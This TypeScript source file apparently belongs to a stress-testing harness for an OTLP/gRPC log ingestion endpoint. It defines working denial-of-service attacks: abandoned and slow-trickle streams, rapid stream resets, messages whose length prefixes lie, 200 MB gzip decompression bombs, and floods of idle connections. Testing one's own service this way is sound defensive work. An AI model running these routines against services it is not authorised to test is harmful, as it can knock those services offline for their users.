import { type ClientHttp2Session, type ClientHttp2Stream, constants } from 'node:http2';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, attackedDataset, type Attacker, type Kind, mayIngest } from '../attack.js';
import { repeatedInGzip } from '../gzip.js';

/** OTLP over gRPC: streams that are left open, slow, reset, or lie about their length. */

const path = '/opentelemetry.proto.collector.logs.v1.LogsService/Export';

/** Opens a stream and counts the status of gRPC in its response. */
function begin(
  session: ClientHttp2Session,
  attacker: Attacker,
  headers: Readonly<Record<string, string>> = {},
): ClientHttp2Stream {
  const stream = session.request({
    ':method': 'POST',
    ':path': path,
    'content-type': 'application/grpc',
    te: 'trailers',
    authorization: `Bearer ${attacker.token}`,
    'x-axiom-dataset': attackedDataset,
    ...headers,
  });
  const count = ({ 'grpc-status': status }: Readonly<Record<string, unknown>>): void => {
    if (status !== undefined) attacker.count(`gRPC ${String(status)}`);
  };
  stream.on('response', count);
  stream.on('trailers', count);
  stream.on('error', () => attacker.count('stream refused or reset'));
  stream.resume();
  return stream;
}

const waitForClose = (stream: ClientHttp2Stream): Promise<void> =>
  new Promise((resolve) => {
    if (stream.closed) return resolve();
    stream.once('close', () => resolve());
  });

/** A message with the length that its prefix announces. */
const frameMessage = (content: Uint8Array, isCompressed = false, length = content.length): Buffer => {
  const prefix = Buffer.alloc(5);
  prefix[0] = isCompressed ? 1 : 0;
  prefix.writeUInt32BE(length, 1);
  return Buffer.concat([prefix, content]);
};

/** Repeats something on each of several connections, which are opened again when they close. */
const onConnections = (
  count: number,
  name: string,
  repeat: (session: ClientHttp2Session, attacker: Attacker) => Promise<void>,
): Attack => ({
  name: `${name}, on ${count} connections`,
  rights: mayIngest,
  run: async (attacker) => {
    const connection = async (): Promise<void> => {
      let session = attacker.connectGrpc();
      while (!attacker.signal.aborted) {
        await repeat(session, attacker);
        // Not in one turn of the loop, if all streams are refused.
        await sleep(1);
        if (!session.destroyed && !session.closed) continue;
        await sleep(10);
        session = attacker.connectGrpc();
      }
    };
    await Promise.all(Array.from({ length: count }, connection));
  },
});

const atOnce = 100;
const streams = (make: () => ClientHttp2Stream): readonly ClientHttp2Stream[] => Array.from({ length: atOnce }, make);

const abandonedStreams = onConnections(20, 'streams that are opened and left', async (session, attacker) => {
  const all = streams(() => begin(session, attacker));
  await Promise.race([Promise.all(all.map(waitForClose)), attacker.wait()]);
});

const slow = onConnections(20, 'bodies of a byte every 100 ms', async (session, attacker) => {
  const all = streams(() => begin(session, attacker));
  for (const stream of all) stream.write(frameMessage(new Uint8Array(0), false, 1_000_000));
  while (all.some((stream) => !stream.closed) && !attacker.signal.aborted) {
    await sleep(100);
    for (const stream of all) if (stream.writable) stream.write('x');
  }
});

const resets = onConnections(8, 'streams that are reset at once', async (session, attacker) => {
  const all = streams(() => {
    const stream = begin(session, attacker);
    stream.close(constants.NGHTTP2_CANCEL);
    return stream;
  });
  await Promise.all(all.map(waitForClose));
});

const lyingLengths = onConnections(8, 'lengths that lie', async (session, attacker) => {
  const all = streams(() => begin(session, attacker));
  for (const stream of all) stream.end(frameMessage(Buffer.from('x'), false, 0xffffffff));
  await Promise.all(all.map(waitForClose));
});

const bombs = onConnections(4, 'bombs of 200 MB', async (session, attacker) => {
  const stream = begin(session, attacker, { 'grpc-encoding': 'gzip' });
  stream.end(frameMessage(bomb(), true));
  await waitForClose(stream);
});

let bombBytes: Uint8Array | undefined;
const bomb = (): Uint8Array => (bombBytes ??= repeatedInGzip('', '\x0a\x00', 200_000_000));

const unread = onConnections(100, 'connections with one open stream', async (session, attacker) => {
  const stream = begin(session, attacker);
  await Promise.race([waitForClose(stream), attacker.wait()]);
});

export const grpc: Kind = { attacks: [abandonedStreams, slow, resets, lyingLengths, bombs, unread] };
